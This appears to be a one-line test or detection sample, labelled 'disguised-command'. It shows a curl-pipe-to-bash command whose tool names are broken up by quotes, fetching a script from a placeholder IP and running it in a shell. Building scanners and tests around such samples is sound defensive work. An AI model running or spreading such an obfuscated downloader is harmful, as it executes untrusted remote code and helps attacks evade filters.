# disguised-command: quotes inside the words hide both the downloader and the shell
c'u'r"l" -fsSL http://203.0.113.7/setup | b'a'sh
